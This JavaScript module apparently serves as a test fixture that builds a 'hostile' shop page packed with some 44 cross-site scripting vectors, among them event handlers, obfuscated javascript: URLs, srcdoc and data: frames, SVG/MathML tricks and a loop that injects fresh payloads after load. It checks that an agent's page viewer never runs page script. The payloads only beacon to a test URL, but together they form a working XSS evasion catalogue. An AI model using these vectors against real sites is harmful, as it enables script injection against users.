// hostilePage: a customer page full of script-injection tricks aimed at the agent's viewer.
//
// Every script payload is self-contained (no helper it could depend on) and, when it runs:
//  - requests `<beaconUrl>?id=<payload id>&from=<location.href>&ref=<document.referrer>&top=<top's
//    URL or "cross-origin">&origin=<self.origin>` (fetch, falling back to an <img>), so a test can
//    tell a customer-side run (http://127.0.0.1…) from an agent-side one (chrome-extension://…,
//    about:srcdoc inside the viewer, a cross-origin top);
//  - sets `top.PWNED = true`, `top.PWNED_<id> = true` and pushes the id to `top.PWNED_LOG`.
// CSS-only payloads (@import, background images) only make requests (`kind: 'request'`): the
// viewer may allow those. After load a timer keeps inserting new payloads and rewriting
// attributes, so the live mutation stream is attacked too, not only the snapshot.

import { esc } from './util.mjs';

/**
 * @typedef {object} HostilePayload
 * @property {string} id beacon `id` (and `[data-hostile=id]` on the element that carries it)
 * @property {string} vector what the trick is
 * @property {'script'|'request'} kind script = code execution (must never happen on the agent side); request = a plain fetch of a resource
 * @property {'load'|'click'|'hover'|'none'} trigger what makes it fire in a normal tab (`none`: blocked by Chromium itself; still attacks a naive mirror)
 * @property {boolean} runsInChromium it fires in a normal Chromium tab after `trigger` (checked by tests/js/browser/pages.test.mjs)
 * @property {boolean} topReachable the payload runs same-origin with the page, so it sets the globals on `top`
 */

/** @param {string} id @returns {string} the global a payload sets on `top` */
export function pwnedGlobal(id) {
  return `PWNED_${id.replace(/[^A-Za-z0-9]/g, '_')}`;
}

/**
 * @param {string} beaconUrl
 * @returns {string}
 */
function checkBeaconUrl(beaconUrl) {
  // the payload is spliced into attributes, javascript: URLs (percent-decoded) and data: URLs
  if (!/^https?:\/\/[A-Za-z0-9.\-:[\]/_]+$/.test(beaconUrl)) throw new TypeError(`hostilePage: unsuitable beaconUrl ${JSON.stringify(beaconUrl)}`);
  return beaconUrl;
}

/**
 * The JavaScript of one payload. It contains no `"`, `<`, `&`, `%` or `#`, so it can be put
 * into attributes, javascript: URLs and data: URLs without further encoding problems.
 * @param {string} beaconUrl
 * @param {string} id
 * @returns {string}
 */
export function payloadJs(beaconUrl, id) {
  if (!/^[a-z0-9-]+$/.test(id)) throw new TypeError(`payload id ${id}`);
  return `(function(){var t;try{t=top.location.href}catch(e){t='cross-origin'}`
    + `var u='${beaconUrl}?'+new URLSearchParams({id:'${id}',from:location.href,ref:document.referrer,top:t,origin:String(self.origin)});`
    + `try{fetch(u,{mode:'no-cors',credentials:'omit',cache:'no-store'}).catch(function(){new Image().src=u})}catch(e){new Image().src=u}`
    + `try{top.PWNED=true;top.${pwnedGlobal(id)}=true;(top.PWNED_LOG=top.PWNED_LOG||[]).push('${id}')}catch(e){}})()`;
}

/**
 * Every static payload on the hostile page. `runsInChromium` was measured with Chromium 156 in
 * a normal tab (the browser test re-checks every `true` and that every `false` stays silent).
 * @returns {HostilePayload[]}
 */
export function hostilePayloads() {
  /** @type {[string, string, HostilePayload['kind'], HostilePayload['trigger'], boolean, boolean][]} */
  const rows = [
    ['inline-script', '<script> in <head>', 'script', 'load', true, true],
    ['external-script', '<script src=/hostile/payload.js>', 'script', 'load', true, true],
    ['body-onload', '<body onload>', 'script', 'load', true, true],
    ['body-onpageshow', '<body onpageshow>', 'script', 'load', true, true],
    ['img-onerror', '<img src=x onerror>', 'script', 'load', true, true],
    ['img-onload', '<img src=(valid image) onload>', 'script', 'load', true, true],
    ['svg-onload', '<svg onload>', 'script', 'load', true, true],
    ['svg-script', '<svg><script>', 'script', 'load', true, true],
    ['svg-animate-onbegin', '<svg><animate onbegin>', 'script', 'load', true, true],
    ['svg-set-href', '<svg><a><set attributeName=href to=javascript:…>', 'script', 'click', true, true],
    ['svg-a-xlink-href', '<svg><a xlink:href=javascript:…>', 'script', 'click', true, true],
    ['svg-a-href', '<svg><a href=javascript:…>', 'script', 'click', true, true],
    ['svg-foreignobject-img', '<svg><foreignObject><img onerror>', 'script', 'load', true, true],
    ['div-onmouseover', '<div onmouseover>', 'script', 'hover', true, true],
    ['button-onclick', '<button onclick>', 'script', 'click', true, true],
    ['a-javascript', '<a href=javascript:…>', 'script', 'click', true, true],
    ['a-javascript-entity', '<a href=&#106;avascript:…>', 'script', 'click', true, true],
    ['a-javascript-tab', '<a href=java&#9;script:…>', 'script', 'click', true, true],
    ['a-javascript-case', '<a href=" JaVaScRiPt:…">', 'script', 'click', true, true],
    ['a-vbscript', '<a href=vbscript:…>', 'script', 'none', false, true],
    ['a-data-html', '<a href=data:text/html,…>', 'script', 'none', false, false],
    ['form-action', '<form action=javascript:…>', 'script', 'click', true, true],
    ['button-formaction', '<button formaction=javascript:…>', 'script', 'click', true, true],
    ['input-autofocus', '<input autofocus onfocus>', 'script', 'load', true, true],
    ['details-ontoggle', '<details open ontoggle>', 'script', 'load', true, true],
    ['video-source-onerror', '<video><source onerror>', 'script', 'load', true, true],
    ['style-onload', '<style onload>', 'script', 'load', true, true],
    ['iframe-onload', '<iframe onload>', 'script', 'load', true, true],
    ['iframe-srcdoc', '<iframe srcdoc="<script>…">', 'script', 'load', true, true],
    ['iframe-javascript', '<iframe src=javascript:…>', 'script', 'load', true, true],
    ['iframe-data-html', '<iframe src=data:text/html,<script>…>', 'script', 'load', true, false],
    ['object-javascript', '<object data=javascript:…>', 'script', 'none', false, true],
    ['object-data-html', '<object data=data:text/html,…>', 'script', 'load', true, false],
    ['object-svg', '<object data=/hostile/embed.svg>', 'script', 'load', true, true],
    ['embed-svg', '<embed src=/hostile/embed.svg>', 'script', 'load', true, true],
    ['embed-javascript', '<embed src=javascript:…>', 'script', 'none', false, true],
    ['meta-refresh', '<meta http-equiv=refresh content="0;url=javascript:…">', 'script', 'none', false, true],
    ['base-href', '<base href=javascript:…> + a relative link', 'script', 'none', false, true],
    ['css-background-javascript', 'style="background:url(javascript:…)"', 'script', 'none', false, true],
    ['math-maction', '<math><maction actiontype=statusline xlink:href=javascript:…>', 'script', 'none', false, true],
    ['math-href', '<math href=javascript:…>', 'script', 'none', false, true],
    ['shadow-img-onerror', '<template shadowrootmode=open><img onerror>', 'script', 'load', true, true],
    ['css-import', '<style>@import url(beacon)</style>', 'request', 'load', true, true],
    ['css-background', 'style="background-image:url(beacon)"', 'request', 'load', true, true],
  ];
  return rows.map(([id, vector, kind, trigger, runsInChromium, topReachable]) => ({ id, vector, kind, trigger, runsInChromium, topReachable }));
}

/**
 * What the live attacker does after load, in turn, forever (every `liveIntervalMs`); the n-th
 * insertion's beacon id is `live-<vector>-<n>`. `autoRuns`: fires by itself in a normal tab.
 * @type {readonly {vector: string, autoRuns: boolean}[]}
 */
export const HOSTILE_LIVE_VECTORS = [
  { vector: 'img-onerror', autoRuns: true },
  { vector: 'script-element', autoRuns: true },
  { vector: 'iframe-srcdoc', autoRuns: true },
  { vector: 'set-onclick', autoRuns: false },
  { vector: 'details-ontoggle', autoRuns: true },
  { vector: 'href-javascript', autoRuns: false },
  { vector: 'svg-onload', autoRuns: false },
  { vector: 'style-import', autoRuns: true },
  { vector: 'iframe-javascript', autoRuns: true },
  { vector: 'set-onmouseover', autoRuns: false },
  { vector: 'meta-refresh', autoRuns: false },
  { vector: 'object-data', autoRuns: false },
];

/**
 * The SVG document served at /hostile/embed.svg (loaded by <embed>/<object>).
 * @param {{beaconUrl: string, id?: string}} options
 * @returns {string}
 */
export function hostileSvg({ beaconUrl, id = 'embed-svg' }) {
  const js = payloadJs(checkBeaconUrl(beaconUrl), /^[a-z0-9-]+$/.test(id) ? id : 'embed-svg');
  return `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="160" height="60" viewBox="0 0 160 60">
<rect width="160" height="60" rx="8" fill="#fee2e2"/><text x="80" y="35" text-anchor="middle" font-size="13" fill="#991b1b">embedded svg</text>
<script><![CDATA[${js}]]></script>
</svg>
`;
}

/**
 * The script served at /hostile/payload.js.
 * @param {{beaconUrl: string}} options
 * @returns {string}
 */
export function hostileScript({ beaconUrl }) {
  return `${payloadJs(checkBeaconUrl(beaconUrl), 'external-script')};\n`;
}

/**
 * @param {string} beaconUrl
 * @param {number} liveIntervalMs
 * @returns {string} the live attacker (runs in the page; every payload inlined as text)
 */
function liveScript(beaconUrl, liveIntervalMs) {
  // the payload is built at run time from a template so every insertion has its own id
  const template = payloadJs(beaconUrl, 'live-id-placeholder');
  return `(function () {
  var TEMPLATE = ${JSON.stringify(template)};
  var VECTORS = ${JSON.stringify(HOSTILE_LIVE_VECTORS.map((v) => v.vector))};
  var zone = document.getElementById('live-zone');
  var n = 0;
  function js(id) { return TEMPLATE.split('live-id-placeholder').join(id).split(${JSON.stringify(pwnedGlobal('live-id-placeholder'))}).join('PWNED_' + id.replace(/[^A-Za-z0-9]/g, '_')); }
  function attr(text) { return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;'); }
  function box(html) { var d = document.createElement('div'); d.className = 'live-item'; d.innerHTML = html; zone.appendChild(d); while (zone.children.length > 24) zone.removeChild(zone.firstElementChild); return d; }
  function tick() {
    n++;
    var vector = VECTORS[(n - 1) % VECTORS.length];
    var id = 'live-' + vector + '-' + n;
    var code = js(id);
    switch (vector) {
      case 'img-onerror': box('<img data-hostile="' + id + '" src="/hostile/missing-' + n + '.png" onerror="' + attr(code) + '" alt="">'); break;
      case 'script-element': { var s = document.createElement('script'); s.setAttribute('data-hostile', id); s.textContent = code; box('').appendChild(s); break; }
      case 'iframe-srcdoc': { var f = document.createElement('iframe'); f.setAttribute('data-hostile', id); f.width = '120'; f.height = '40'; f.srcdoc = '<script>' + code + '<\\/script>'; box('').appendChild(f); break; }
      case 'set-onclick': { var b = document.getElementById('live-target-button'); b.setAttribute('onclick', code); b.setAttribute('data-hostile', id); break; }
      case 'details-ontoggle': box('<details data-hostile="' + id + '" open ontoggle="' + attr(code) + '"><summary>live</summary>x</details>'); break;
      case 'href-javascript': { var a = document.getElementById('live-target-link'); a.href = 'javascript:' + code; a.setAttribute('data-hostile', id); break; }
      case 'svg-onload': box('<svg data-hostile="' + id + '" width="10" height="10" onload="' + attr(code) + '"><rect width="10" height="10"/></svg>'); break;
      case 'style-import': { var st = document.createElement('style'); st.setAttribute('data-hostile', id); st.textContent = '@import url("${beaconUrl}?id=' + id + '");'; box('').appendChild(st); break; }
      case 'iframe-javascript': { var g = document.createElement('iframe'); g.setAttribute('data-hostile', id); g.width = '40'; g.height = '20'; g.src = 'javascript:' + code; box('').appendChild(g); break; }
      case 'set-onmouseover': { var h = document.getElementById('live-target-hover'); h.setAttribute('onmouseover', code); h.setAttribute('data-hostile', id); break; }
      case 'meta-refresh': { var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=javascript:' + code; m.setAttribute('data-hostile', id); box('').appendChild(m); break; }
      case 'object-data': { var o = document.createElement('object'); o.setAttribute('data-hostile', id); o.data = 'javascript:' + code; o.width = '20'; o.height = '20'; box('').appendChild(o); break; }
    }
    window.HOSTILE_LIVE_COUNT = n;
  }
  window.addEventListener('load', function () { tick(); setInterval(tick, ${liveIntervalMs}); });
})();`;
}

/**
 * @param {{beaconUrl: string, liveIntervalMs?: number}} options
 * @returns {string} the hostile customer page
 */
export function hostilePage({ beaconUrl, liveIntervalMs = 400 }) {
  const beacon = checkBeaconUrl(beaconUrl);
  /** @param {string} id @returns {string} the payload, escaped for a double-quoted attribute */
  const on = (id) => esc(payloadJs(beacon, id));
  /** @param {string} id @returns {string} a javascript: URL for an attribute */
  const jsUrl = (id) => `javascript:${on(id)}`;
  /** @param {string} id @returns {string} a data:text/html URL holding a <script> payload */
  const dataHtml = (id) => `data:text/html,${encodeURIComponent(`<!DOCTYPE html><p>hi</p><script>${payloadJs(beacon, id)}</script>`)}`;
  const srcdoc = esc(`<!DOCTYPE html><p>srcdoc frame</p><script>${payloadJs(beacon, 'iframe-srcdoc')}</script>`);
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Account settings — Totally Normal Shop</title>
<link rel="icon" href="/img/favicon-64x64.svg" type="image/svg+xml">
<base data-hostile="base-href" href="javascript:${on('base-href')}//">
<meta data-hostile="meta-refresh" http-equiv="refresh" content="0;url=javascript:${on('meta-refresh')}">
<script data-hostile="inline-script">${payloadJs(beacon, 'inline-script')}</script>
<script data-hostile="external-script" src="/hostile/payload.js"></script>
<style data-hostile="css-import">@import url("${beacon}?id=css-import");
body{font:15px/1.5 system-ui,sans-serif;margin:0;padding:24px;background:#fafafa;color:#111}
section{margin:0 0 16px;padding:14px;border:1px solid #ddd;border-radius:10px;background:#fff}
h2{font-size:15px;margin:0 0 8px}
.live-item{display:inline-block;margin:2px}
</style>
<style data-hostile="style-onload" onload="${on('style-onload')}">.hostile-note{color:#b91c1c}</style>
</head>
<body onload="${on('body-onload')}" onpageshow="${on('body-onpageshow')}">
<h1>Account settings</h1>
<p class="hostile-note">This page attacks whoever renders it. Every trick reports where it ran.</p>

<section><h2>Inline handlers</h2>
<img data-hostile="img-onerror" src="x" onerror="${on('img-onerror')}" alt="broken">
<img data-hostile="img-onload" src="/img/hostile-ok-16x16.svg" width="16" height="16" onload="${on('img-onload')}" alt="ok">
<svg data-hostile="svg-onload" width="20" height="20" onload="${on('svg-onload')}"><circle cx="10" cy="10" r="8" fill="#f87171"/></svg>
<div data-hostile="div-onmouseover" onmouseover="${on('div-onmouseover')}" style="display:inline-block;padding:8px 12px;background:#fee2e2;border-radius:6px">hover me</div>
<button data-hostile="button-onclick" type="button" onclick="${on('button-onclick')}">click me</button>
<input data-hostile="input-autofocus" autofocus onfocus="${on('input-autofocus')}" value="autofocus">
<details data-hostile="details-ontoggle" open ontoggle="${on('details-ontoggle')}"><summary>details</summary>opened</details>
<video data-hostile="video-source-onerror" width="40" height="20"><source src="/hostile/missing.mp4" type="video/mp4" onerror="${on('video-source-onerror')}"></video>
<iframe data-hostile="iframe-onload" src="about:blank" width="40" height="20" onload="${on('iframe-onload')}"></iframe>
</section>

<section><h2>javascript: URLs</h2>
<a data-hostile="a-javascript" href="${jsUrl('a-javascript')}">plain javascript: link</a> ·
<a data-hostile="a-javascript-entity" href="&#106;avascript:${on('a-javascript-entity')}">entity-encoded</a> ·
<a data-hostile="a-javascript-tab" href="java&#9;script:${on('a-javascript-tab')}">tab inside the scheme</a> ·
<a data-hostile="a-javascript-case" href=" JaVaScRiPt:${on('a-javascript-case')}">mixed case, leading space</a> ·
<a data-hostile="a-vbscript" href="vbscript:msgbox(1)">vbscript:</a> ·
<a data-hostile="a-data-html" href="${esc(dataHtml('a-data-html'))}">data:text/html</a> ·
<a data-hostile="base-href-link" href="relative-link">relative link under a javascript: base</a>
<form data-hostile="form-action" action="${jsUrl('form-action')}" method="get"><button data-hostile-click="form-action" type="submit">submit (form action)</button></form>
<form action="/hostile/never" method="get"><button data-hostile="button-formaction" type="submit" formaction="${jsUrl('button-formaction')}">submit (formaction)</button></form>
<div data-hostile="css-background-javascript" style="width:20px;height:20px;background:url(&quot;javascript:${on('css-background-javascript')}&quot;)"></div>
<div data-hostile="css-background" style="width:20px;height:20px;background-image:url(&quot;${beacon}?id=css-background&quot;)"></div>
</section>

<section><h2>Frames, objects, embeds</h2>
<iframe data-hostile="iframe-srcdoc" width="160" height="40" srcdoc="${srcdoc}"></iframe>
<iframe data-hostile="iframe-javascript" width="40" height="20" src="${jsUrl('iframe-javascript')}"></iframe>
<iframe data-hostile="iframe-data-html" width="40" height="20" src="${esc(dataHtml('iframe-data-html'))}"></iframe>
<object data-hostile="object-javascript" width="40" height="20" data="${jsUrl('object-javascript')}"></object>
<object data-hostile="object-data-html" width="40" height="20" data="${esc(dataHtml('object-data-html'))}" type="text/html"></object>
<object data-hostile="object-svg" width="160" height="60" data="/hostile/embed.svg?id=object-svg" type="image/svg+xml"></object>
<embed data-hostile="embed-svg" width="160" height="60" src="/hostile/embed.svg?id=embed-svg" type="image/svg+xml">
<embed data-hostile="embed-javascript" width="40" height="20" src="${jsUrl('embed-javascript')}">
<div data-hostile="shadow-img-onerror"><template shadowrootmode="open"><img src="x" onerror="${on('shadow-img-onerror')}" alt=""><slot></slot></template>declarative shadow root</div>
</section>

<section><h2>SVG and MathML</h2>
<svg width="360" height="40" xmlns:xlink="http://www.w3.org/1999/xlink">
<script data-hostile="svg-script">${esc(payloadJs(beacon, 'svg-script'))}</script>
<rect width="20" height="20" fill="#fca5a5"><animate data-hostile="svg-animate-onbegin" attributeName="x" from="0" to="10" dur="1s" fill="freeze" onbegin="${on('svg-animate-onbegin')}"/></rect>
<a data-hostile="svg-set-href"><set attributeName="href" to="${jsUrl('svg-set-href')}"/><text x="30" y="15">set href</text></a>
<a data-hostile="svg-a-xlink-href" xlink:href="${jsUrl('svg-a-xlink-href')}"><text x="110" y="15">xlink:href</text></a>
<a data-hostile="svg-a-href" href="${jsUrl('svg-a-href')}"><text x="200" y="15">svg href</text></a>
<foreignObject x="270" y="0" width="80" height="40"><img data-hostile="svg-foreignobject-img" src="x" onerror="${on('svg-foreignobject-img')}" alt="fo"></foreignObject>
</svg>
<math><maction data-hostile="math-maction" actiontype="statusline" xlink:href="${jsUrl('math-maction')}"><mtext>maction</mtext><mtext>status</mtext></maction></math>
<math data-hostile="math-href" href="${jsUrl('math-href')}"><mi>x</mi><mo>+</mo><mn>1</mn></math>
</section>

<section><h2>Live attacks (inserted after load)</h2>
<button id="live-target-button" type="button">live onclick target</button>
<a id="live-target-link" href="/hostile/safe">live href target</a>
<span id="live-target-hover">live hover target</span>
<div id="live-zone"></div>
</section>
<script>${liveScript(beacon, liveIntervalMs)}</script>
</body></html>
`;
}
